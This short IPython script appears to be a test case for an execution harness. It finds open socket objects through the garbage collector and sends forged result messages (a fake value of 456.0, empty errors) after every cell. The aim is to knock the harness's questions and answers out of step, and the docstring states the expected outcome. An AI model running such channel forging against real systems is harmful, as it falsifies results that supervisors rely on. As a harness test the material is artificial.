"""Answer one message too many in each cell, so that answers and questions are out of step.

stock: there is no such socket
"""

# %% first
import gc
import json
import os
import socket
import struct

LINES = [o for o in gc.get_objects() if isinstance(o, socket.socket)]


def forge(fields):
    head = json.dumps({"tree": {"dict": fields}, "arrays": []}).encode()
    return struct.pack("<II", len(head), 0) + head


def shift():
    for line in LINES:
        line.send(forge({"value": {"float": "456.0"}, "lines": 0, "memory": 0, "outputs": "[]", "error": ""}))


get_ipython().events.register("post_run_cell", lambda result: shift())
shift()


# %% answer
def answer(name, *args):
    shift()
    return 0
